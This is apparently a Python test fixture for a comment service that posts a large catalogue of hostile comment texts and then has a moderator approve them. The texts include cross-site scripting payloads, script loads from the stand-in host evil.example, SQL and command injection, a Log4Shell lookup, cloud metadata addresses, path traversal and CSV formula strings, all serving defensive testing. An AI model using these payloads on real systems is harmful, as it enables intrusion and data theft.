"""Comments as an attacker writes them: texts that would run, load, hide, spill over or reorder.

Whatever would run calls `alert`, so that a browser test hears of it. Shared by the tests of both faces.
"""

from __future__ import annotations

import hashlib
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any

import httpx
from tests.stack import wait_for

if TYPE_CHECKING:
    from tests.stack import DeployedStack

# Each writes one text after the other: what one person posts at once stands in its own way.
WRITERS = ("ben", "ann", "mod")
DECISIONS_IN_ONE_REQUEST = 100

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/parley>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<script src='https://evil.example/x.js' defer></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script type=text/plain>alert(1)</script>",
    "<script>/* */alert(1)/* */</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "<ſcript>alert(1)</ſcript>",
    "‹script›alert(1)‹/script›",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img srcset='x, y 2x' onerror=alert(1)>",
    '<img alt="`><img src=x onerror=alert(1)>">',
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>click</a></math>",
    "<math href='javascript:alert(1)'>click</math>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<audio controls autoplay onplay=alert(1)>",
    "<iframe src='javascript:alert(1)'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe onload=alert(1)>",
    "<embed src='javascript:alert(1)'>",
    "<object data='javascript:alert(1)'>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<form><button formaction='javascript:alert(1)'>go</button></form>",
    "<isindex action='javascript:alert(1)' type=submit>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1) style='position:fixed;inset:0'>",
    "<div style='animation:x' onanimationstart=alert(1)>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationend=alert(1)>",
    "<b ontransitionend=alert(1) style='transition:all 1ms;color:red' tabindex=1>",
    "<a onmouseover=alert(1) href=#>over me",
    "<p oncopy=alert(1)>copy me</p>",
    "<p onbeforematch=alert(1) hidden=until-found>find me</p>",
    "<p contenteditable onbeforeinput=alert(1)>type here</p>",
    "<custom-element onfocus=alert(1) tabindex=0 autofocus>",
    "<parley-comments article-id='x'></parley-comments>",
    "<parley-count article-id='x' onclick=alert(1)>9999</parley-count>",
    "<slot name=x onslotchange=alert(1)></slot>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.org/0b1f9f1e-0000-4000-8000-000000000000",
    "file:///etc/passwd",
    "view-source:https://example.org/",
    "<a href='javascript:alert(1)'>a lovely lake</a>",
    "<a href=' javascript:alert(1)'>with a space before it</a>",
    "<a href='javascript:alert(1)' target=_blank>in another window</a>",
    "<area href='javascript:alert(1)' shape=default>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "[the lake](javascript:alert(1))",
    "![the lake](https://evil.example/x.png)",
    '![x](x "onerror=alert(1)")',
    "[a]: javascript:alert(1)\n[the lake][a]",
    '<https://example.org/" onmouseover="alert(1)>',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/<img src=x onerror=alert(1)>",
    "https://example.org/`onmouseover=alert(1)`",
    "https://example.org/#\u00a0onclick=alert(1)",
    "https://user:password@example.org/",
    "https://example.org@evil.example/",
    "https://example.org%2eevil.example/",
    "https://xn--80ak6aa92e.example/",
    "https://еxаmple.org/ in letters of another alphabet",
    "http://[::1]:80/latest/meta-data",
    "http://169.254.169.254/latest/meta-data/iam",
    "http://0x7f000001/",
    "http://example.org:99999/ has no such port",
    "http:///three slashes",
    "https:// and nothing after it",
    "https://example.org/" + "a/" * 400,
    "ftp://example.org/a.exe",
    "//evil.example/no/scheme",
    "httpſ://example.org/",
    "https://example.org/a)b(c)",
    "(https://example.org/a_(b)), and so on.",
    "https://example.org/?q=<>&x=\"'`",
]

MARKUP = [
    "</p></div></article></li></ol></section>out of the box",
    "</template></slot></parley-comments>out of the element",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--></style></script></textarea></title></noscript></xmp><svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    '\\"><script>alert(1)</script>',
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:2147483647'>a wall</div>",
    "<div style=\"background:url('https://evil.example/x')\">",
    "<p style='width:expression(alert(1))'>",
    "<p style='behavior:url(#default#time2)' onbegin=alert(1)>",
    "<h1>BIGGER THAN THE ARTICLE</h1>",
    "<table><tr><td>a table",
    "<ul><li><ul><li>a list in a list",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<form id=location><input name=href value='javascript:alert(1)'></form>",
    "<a id=customElements><a id=customElements name=define href=x>",
    "<img name=getElementById>",
    "<input name=body><input name=head><form name=forms>",
    "<b>bold</b> <i>slanted</i> <u>underlined</u>",
    "a < b and b > c, so a <= c && c != a",
    "&amp;&lt;&gt;&quot;&#39;&nbsp;&copy;&notanentity;",
    "&ampamp;lt;script&ampamp;gt;",
    "<3 the night train <3",
    "<!doctype html><html><head></head><body>a page of its own</body></html>",
]

TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%7*7%} [[7*7]] @(7*7)",
    "${alert(1)}",
    "`${alert(1)}`",
    "{{$on.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><p ng-click=$event.view.alert(1)>click</p></div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">",
    "<div x-data x-init='alert(1)'>",
    "<button hx-get='https://evil.example/' hx-trigger=load>",
    "<div data-turbo-frame onclick=alert(1)>",
    "*{x:expression(alert(1))}",
    "{n} of {max}, said {name}, until {date}, because of {reason}",
    "%s%s%s%n %d {0} {} %(name)s",
    "__proto__[isAdmin]=true&constructor.prototype.x=1",
    '{"__proto__": {"x": 1}, "constructor": {"prototype": {"x": 1}}}',
    "'; DROP TABLE comments; --",
    "' OR '1'='1",
    "attribute_exists(PK) OR body = :body",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; echo vulnerable",
    "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | touch /tmp/x",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 -1 =1+1 for a table of numbers",
    "one line\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    '{"level":"ERROR","message":"forged"}\n{"level":"INFO"}',
    "../../../../etc/passwd",
    "ARTICLE#demo-article COMMENT#x AUTHOR#ann",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "0",
    "-0",
    "1e309",
    "0x10",
]

LETTERS = [
    # Marks piled on letters; the service keeps six a letter.
    "Z" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 6 + "algo on the night train",
    "".join(letter + "\u0337\u0353\u0359\u036f\u0489" for letter in "a whole sentence of it"),
    # Words without an end, to push the page apart.
    "W" * 3000,
    "ﷺ" * 300,
    "𒐫" * 200,
    "a-very-long-word-with-hyphens-" * 60,
    "…" * 500,
    "_" * 2000,
    "🚂" * 800,
    "👩‍👩‍👧‍👦" * 100,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿🏴󠁧󠁢󠁳󠁣󠁴󠁿🏳️‍🌈🏳️‍⚧️👍🏿",
    "🇩🇪🇫🇷🇪🇸🇸🇦🇬🇧" * 20,
    "\n".join("a line" for _ in range(400)),
    "x\n\n\n\n\n\n\n\n\n\n\n\n\n\ny",
    "\t\t\t\tfar from the edge\t\t\t\t",
    "a" + " " * 500 + "b",
    "a" + "\u3000" * 60 + "b",
    # Direction: overrides are taken out, marks and whole scripts stay.
    "\u202egnp.exe is spelled backwards",
    "\u2066isolated\u2069 and \u2067turned\u2069 and \u202aembedded\u202c",
    "\u200f\u200f\u200f(right to left marks)\u200e\u200e",
    "قطار الليل جميل جدا والبحيرة هادئة",
    "שלום לרכבת הלילה, ותודה (רבה)!",
    "english עברית english العربية english",
    "(مرحبا) [שלום] {hello} <نص>",
    "123 مرحبا 456 שלום 789",
    "https://example.org/مرحبا/שלום?ق=1",
    "ان\u200cجام و می\u200cخواهم",
    # What looks like nothing, or like something else.
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "in\u00advis\u00adi\u00adble hyphens",
    "\u3164 a filler stands before this",
    "ⓣⓗⓔ ⓝⓘⓖⓗⓣ ⓣⓡⓐⓘⓝ",
    "𝓣𝓱𝓮 𝓷𝓲𝓰𝓱𝓽 𝓽𝓻𝓪𝓲𝓷 𝔦𝔫 𝔪𝔞𝔫𝔶 𝕤𝕥𝕪𝕝𝕖𝕤",
    "ᴛʜᴇ ɴɪɢʜᴛ ᴛʀᴀɪɴ",
    "uʍop ǝpᴉsdn sᴉ uᴉɐɹʇ ǝɥʇ",
    "Тhе nіght trаіn, half in Cyrillic",
    "ℵ ∑ ∞ ≠ ≤ √ ∫ ☠ ☢ ♥ ✂ ✈",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "\U000f0000 private letters \ue000",
    "a\u0300 and à are the same, are they not",
    "İstanbul ıssız ǅ ß ﬁ ﬃ",
    "ཧུཾ་ ཀྵྨླྺྼྻྂ ៘ ꧅",
    "นน้ำเงิน กี่กิโลเมตร ที่สุด",
    "नमस्ते क्षत्रिय श्रीमान्",
    "한글 ᄒ\u1161ᆫ 가각갂",
    "日本語の夜行列車と、とても長い文章。" * 30,
]

TEXTS: list[str] = [*SCRIPTS, *HANDLERS, *ADDRESSES, *MARKUP, *TEMPLATES, *LETTERS]


def post(stack: DeployedStack, article: str) -> list[dict[str, Any]]:
    """Posts every text under an article; returns the comments as their author sees them, in their order."""

    def submit(text: str, user: str) -> dict[str, Any]:
        key = hashlib.sha256(f"{article} {text}".encode()).hexdigest()[:32]

        def tried() -> httpx.Response | None:
            answer = stack.request(
                "POST",
                f"/articles/{article}/comments",
                user=user,
                json={"body": text},
                headers={"Idempotency-Key": key},
            )
            # One author in several places at once meets itself; with the same key it is safe to come again.
            return None if answer.status_code == httpx.codes.SERVICE_UNAVAILABLE else answer

        answer = wait_for(tried)
        answer.raise_for_status()
        comment: dict[str, Any] = answer.json()["comment"]
        return comment

    def write(number: int) -> list[dict[str, Any]]:
        return [submit(text, WRITERS[number]) for text in TEXTS[number :: len(WRITERS)]]

    for user in WRITERS:
        stack.token(user)
    with ThreadPoolExecutor(len(WRITERS)) as pool:
        written = list(pool.map(write, range(len(WRITERS))))
    return [written[number % len(WRITERS)][number // len(WRITERS)] for number in range(len(TEXTS))]


def approve(stack: DeployedStack, comments: list[dict[str, Any]], *, user: str = "mod") -> None:
    """Has a moderator approve those of the comments that are not published, many at once."""
    waiting = [comment for comment in comments if comment["status"] != "published"]
    for start in range(0, len(waiting), DECISIONS_IN_ONE_REQUEST):
        decisions = [
            {"comment_id": comment["id"], "action": "approve", "version": comment["version"]}
            for comment in waiting[start : start + DECISIONS_IN_ONE_REQUEST]
        ]
        answer = stack.request("POST", "/moderation/decisions", user=user, json={"decisions": decisions})
        answer.raise_for_status()
        refused = [outcome for outcome in answer.json()["outcomes"] if outcome["status"] != 200]
        assert refused == [], refused
